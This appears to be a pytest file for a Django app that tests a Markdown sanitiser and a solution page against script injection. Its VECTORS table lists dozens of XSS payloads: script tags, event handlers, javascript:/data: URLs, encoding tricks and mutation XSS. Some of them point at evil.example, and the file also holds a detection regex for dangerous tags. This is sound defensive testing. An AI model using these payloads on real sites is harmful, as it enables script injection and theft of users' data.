"""The Markdown sanitiser, alone and on the solution page: harmless Markdown in, no script out."""

import html
import json
import re
from html.parser import HTMLParser

import pytest
from django.urls import reverse
from django.utils.safestring import SafeString

from core.markdown import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, render_markdown
from tests.support.factories import make_solution

MARKDOWN_FIELDS = ["problem", "approach", "results", "lessons_learned", "funding"]
DANGEROUS_SCHEMES = ("javascript:", "data:", "vbscript:")
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcset"}
DANGEROUS_TAG = re.compile(
    r"<\s*/?\s*(script|style|iframe|object|embed|svg|img|form|input|button|textarea|select"
    r"|meta|base|link|math|noscript|frame|frameset|applet|template)\b",
    re.IGNORECASE,
)

# Every dangerous construct, by a readable id, as an author might type it into a Markdown field.
VECTORS = {
    "script": "<script>alert(1)</script>",
    "script-uppercase-src": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script-in-paragraph": "Hello <script>alert(1)</script> world",
    "script-split": "<scr<script>ipt>alert(1)</script>",
    "script-in-comment": "<!--<script>alert(1)//-->",
    "script-in-cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "style": "<style>body { display: none }</style>",
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "svg-onload": "<svg onload=alert(1)>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-markdown-javascript": "![x](javascript:alert(1))",
    "img-markdown-attribute-breakout": '![x](x" onerror="alert(1))',
    "onclick": '<p onclick="alert(1)">Click</p>',
    "onmouseover-on-link": '<a href="https://example.org/" onmouseover="alert(1)">x</a>',
    "onmouseover-unquoted": "<b onmouseover=alert(1)>bold</b>",
    "onfocus-autofocus": "<div onfocus=alert(1) autofocus tabindex=0>x</div>",
    "ontoggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "link-markdown-javascript": "[x](javascript:alert(1))",
    "link-markdown-mixed-case": "[x](JaVaScRiPt:alert(1))",
    "link-markdown-leading-space": "[x]( javascript:alert(1))",
    "link-markdown-angle-brackets": "[x](<javascript:alert(1)>)",
    "link-markdown-reference": "[x][1]\n\n[1]: javascript:alert(1)",
    "link-markdown-data": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "link-markdown-vbscript": "[x](vbscript:msgbox(1))",
    "link-markdown-title-breakout": '[x](https://example.org/ "a" onclick="alert(1)")',
    "autolink-javascript": "<javascript:alert(1)>",
    "a-javascript": '<a href="javascript:alert(1)">x</a>',
    "a-javascript-mixed-case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "a-javascript-decimal-entity": '<a href="&#106;avascript:alert(1)">x</a>',
    "a-javascript-hex-entity": '<a href="&#x6A;avascript:alert(1)">x</a>',
    "a-javascript-padded-entities": (
        '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
        '&#0000112&#0000116&#0000058alert(1)">x</a>'
    ),
    "a-javascript-colon-entity": '<a href="javascript&colon;alert(1)">x</a>',
    "a-javascript-tab-inside": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "a-javascript-newline-inside": '<a href="java\nscript:alert(1)">x</a>',
    "a-javascript-leading-spaces": '<a href="   javascript:alert(1)">x</a>',
    "a-javascript-leading-newline": '<a href="\n\njavascript:alert(1)">x</a>',
    "a-javascript-leading-control": '<a href="\x01javascript:alert(1)">x</a>',
    "a-javascript-unquoted": "<a href=javascript:alert(1)>x</a>",
    "a-data": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "a-vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "a-target-blank": '<a href="https://example.org/" target="_blank">x</a>',
    "form": (
        '<form action="https://evil.example/"><input name="password">'
        "<button formaction=javascript:alert(1)>Go</button></form>"
    ),
    "input": '<input type="text" value="x" onfocus="alert(1)" autofocus>',
    "textarea": "<textarea>x</textarea>",
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base": '<base href="https://evil.example/">',
    "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "style-attribute": '<p style="background:url(javascript:alert(1))">x</p>',
    "style-attribute-on-link": '<a href="https://example.org/" style="position:fixed">x</a>',
    "class-and-id": '<p class="notice" id="main">x</p>',
    "unclosed-img": "<img src=x onerror=alert(1)",
    "unclosed-script": "<script>alert(1)",
    "unclosed-a": '<a href="javascript:alert(1)"',
    "unclosed-iframe": "<iframe",
    "nested-brackets": "<<script>alert(1);//<</script>",
    "closing-then-script": "</p><script>alert(1)</script><p>",
    "noscript-mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "math-mutation": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "template": "<template><script>alert(1)</script></template>",
    "h1": "<h1>Too big</h1>",
}


class TagCollector(HTMLParser):
    """Every start tag with its attributes, entity references resolved as a browser would."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)


def tags_of(markup):
    parser = TagCollector()
    parser.feed(str(markup))
    parser.close()
    return parser.tags


def normalised_url(value):
    """A URL as a browser reads it: entities decoded, whitespace and controls removed."""
    value = html.unescape(value)
    return "".join(char for char in value if char > " " and char != "\x7f").lower()


def assert_no_dangerous_markup(markup, *, allowed_tags=None):
    for tag, attributes in tags_of(markup):
        if allowed_tags is not None:
            assert tag in allowed_tags, f"<{tag}> is not allowed"
        assert tag != "script"
        for name, value in attributes.items():
            assert not name.startswith("on"), f"<{tag} {name}> is an event handler"
            assert name not in {"style", "srcdoc", "formaction"}, f"<{tag} {name}>"
            if name in URL_ATTRIBUTES:
                assert not normalised_url(value).startswith(DANGEROUS_SCHEMES), (
                    f'<{tag} {name}="{value}">'
                )


# render_markdown


@pytest.mark.parametrize("vector", VECTORS.values(), ids=VECTORS.keys())
def test_render_markdown_keeps_dangerous_constructs_out(vector):
    rendered = render_markdown(vector)

    assert_no_dangerous_markup(rendered, allowed_tags=ALLOWED_TAGS)
    assert not DANGEROUS_TAG.search(rendered), rendered
    for tag, attributes in tags_of(rendered):
        allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        assert set(attributes) <= allowed, f"<{tag}> kept {set(attributes) - allowed}"


@pytest.mark.parametrize("vector", VECTORS.values(), ids=VECTORS.keys())
def test_render_markdown_keeps_dangerous_constructs_out_inside_surrounding_markdown(vector):
    text = f"## Heading\n\nSome **text** and {vector} inline.\n\n- item {vector}\n\n{vector}\n"

    rendered = render_markdown(text)

    assert_no_dangerous_markup(rendered, allowed_tags=ALLOWED_TAGS)
    assert not DANGEROUS_TAG.search(rendered), rendered


def test_render_markdown_drops_script_content_not_just_the_tags():
    rendered = render_markdown("Before <script>alert('stolen')</script> after")

    assert "alert" not in rendered
    assert "Before" in rendered
    assert "after" in rendered


def test_render_markdown_keeps_the_text_of_a_link_whose_url_it_drops():
    rendered = render_markdown("[the report](javascript:alert(1))")

    assert rendered == '<p><a rel="nofollow noopener">the report</a></p>'


def test_render_markdown_escapes_an_unclosed_tag_as_text():
    rendered = render_markdown("<img src=x onerror=alert(1)")

    assert tags_of(rendered) == [("p", {})]
    assert "&lt;img" in rendered


@pytest.mark.parametrize("text", ["", None])
def test_render_markdown_of_nothing_is_an_empty_safe_string(text):
    rendered = render_markdown(text)

    assert rendered == ""
    assert isinstance(rendered, SafeString)


def test_render_markdown_returns_a_safe_string():
    assert isinstance(render_markdown("**x**"), SafeString)


def test_render_markdown_keeps_paragraphs_bold_and_emphasis():
    rendered = render_markdown("One **bold** and *leaning* word.\n\nTwo.")

    assert rendered == "<p>One <strong>bold</strong> and <em>leaning</em> word.</p>\n<p>Two.</p>"


def test_render_markdown_keeps_lists():
    rendered = render_markdown("- water\n- energy\n\n1. first\n2. second")

    assert [tag for tag, _attributes in tags_of(rendered)] == ["ul", "li", "li", "ol", "li", "li"]
    assert "<li>water</li>" in rendered
    assert "<li>second</li>" in rendered


def test_render_markdown_keeps_headings_two_to_four_only():
    rendered = render_markdown("# One\n\n## Two\n\n### Three\n\n#### Four\n\n##### Five")

    assert "<h2>Two</h2>" in rendered
    assert "<h3>Three</h3>" in rendered
    assert "<h4>Four</h4>" in rendered
    assert [tag for tag, _attributes in tags_of(rendered)] == ["h2", "h3", "h4"]
    assert "One" in rendered
    assert "Five" in rendered


def test_render_markdown_keeps_blockquotes_code_and_tables():
    text = "> quoted\n\nUse `code`.\n\n| Year | Value |\n| --- | --- |\n| 2020 | 3 |"

    tags = {tag for tag, _attributes in tags_of(render_markdown(text))}

    assert {"blockquote", "code", "table", "thead", "tbody", "tr", "th", "td"} <= tags


@pytest.mark.parametrize(
    "text, href",
    [
        ("[report](https://example.org/report?a=1&b=2)", "https://example.org/report?a=1&b=2"),
        ("[plain](http://example.org/)", "http://example.org/"),
        ("[write](mailto:team@example.org)", "mailto:team@example.org"),
        ("[list](/solutions/)", "/solutions/"),
        (
            '<a href="https://example.org/raw" rel="opener" target="_blank">raw</a>',
            "https://example.org/raw",
        ),
        ("<https://example.org/auto>", "https://example.org/auto"),
    ],
    ids=["https", "http", "mailto", "relative", "raw-a", "autolink"],
)
def test_render_markdown_keeps_safe_links_with_nofollow_noopener(text, href):
    links = [attributes for tag, attributes in tags_of(render_markdown(text)) if tag == "a"]

    assert len(links) == 1
    assert links[0]["rel"] == "nofollow noopener"
    assert "target" not in links[0]
    assert links[0]["href"] == href


def test_render_markdown_keeps_a_link_title():
    links = tags_of(render_markdown('[x](https://example.org/ "The report")'))

    assert links == [
        ("p", {}),
        ("a", {"href": "https://example.org/", "title": "The report", "rel": "nofollow noopener"}),
    ]


# The solution page


# The page's own scripts: its script file, and the JSON-LD that describes it (data, never run).
OWN_SCRIPT = re.compile(
    r'<script src="/static/js/[\w-]+\.js" defer></script>'
    r'|<script type="application/ld\+json">(?P<data>[^<]*)</script>'
)


def without_own_scripts(content):
    """The page with its own scripts taken out, once the JSON-LD is checked to be JSON in
    which no text can close the element."""
    for match in OWN_SCRIPT.finditer(content):
        if match["data"] is not None:
            json.loads(match["data"])
    return OWN_SCRIPT.sub("", content)


def assert_page_is_clean(content):
    content = without_own_scripts(content)
    tags = tags_of(content)
    assert_no_dangerous_markup(content)
    names = [tag for tag, _attributes in tags]
    assert "script" not in names
    for forbidden in ["style", "iframe", "object", "embed", "svg", "img", "form", "input", "base"]:
        assert forbidden not in names, f"<{forbidden}> on the page"
    for tag, attributes in tags:
        if tag == "meta":
            assert "http-equiv" not in attributes
        if tag == "link":
            assert attributes.get("rel") in {"canonical", "stylesheet", "icon"}
    assert not re.search(r"<\s*script", content, re.IGNORECASE)


def published_page(client, **fields):
    solution = make_solution(slug="hostile-solution", **fields)
    response = client.get(reverse("solutions:detail", kwargs={"slug": solution.slug}))
    assert response.status_code == 200
    return response.content.decode()


@pytest.mark.django_db
@pytest.mark.parametrize("vector", VECTORS.values(), ids=VECTORS.keys())
def test_solution_page_keeps_each_vector_out_of_every_markdown_field(client, vector):
    content = published_page(
        client,
        **{field: f"Intro for {field}.\n\n{vector}" for field in MARKDOWN_FIELDS},
    )

    assert_page_is_clean(content)
    for field in MARKDOWN_FIELDS:
        assert f"Intro for {field}." in content


@pytest.mark.django_db
def test_solution_page_keeps_all_vectors_together_out_of_every_field(client):
    everything = "\n\n".join(VECTORS.values())
    title = '<script>alert(1)</script><img src=x onerror=alert(1)> "Kiosks" & co'

    content = published_page(
        client,
        title=title,
        summary=everything,
        **dict.fromkeys(MARKDOWN_FIELDS, everything),
    )

    assert_page_is_clean(content)


@pytest.mark.django_db
def test_solution_title_and_summary_are_escaped_not_rendered(client):
    title = "<script>alert(1)</script> **Kiosks** & <b>co</b>"
    summary = '<img src=x onerror=alert(1)> [x](javascript:alert(1)) <a href="javascript:x">y</a>'

    content = published_page(client, title=title, summary=summary)

    assert_page_is_clean(content)
    escaped_title = "&lt;script&gt;alert(1)&lt;/script&gt; **Kiosks** &amp; &lt;b&gt;co&lt;/b&gt;"
    assert f"<h1>{escaped_title}</h1>" in content
    assert (
        '<p class="summary">&lt;img src=x onerror=alert(1)&gt; [x](javascript:alert(1)) '
        "&lt;a href=&quot;javascript:x&quot;&gt;y&lt;/a&gt;</p>"
    ) in content


@pytest.mark.django_db
def test_solution_page_renders_harmless_markdown_in_its_sections(client):
    content = published_page(
        client,
        problem="## Context\n\nRain **floods** the market.",
        approach="- kiosks\n- meters",
        results="See [the report](https://example.org/report).",
        lessons_learned="1. Ask first\n2. Measure",
        funding="Paid by *the utility*.",
    )

    assert "<h2>Context</h2>" in content
    assert "<strong>floods</strong>" in content
    assert "<li>kiosks</li>" in content
    assert '<a href="https://example.org/report" rel="nofollow noopener">the report</a>' in content
    assert "<li>Ask first</li>" in content
    assert "<em>the utility</em>" in content
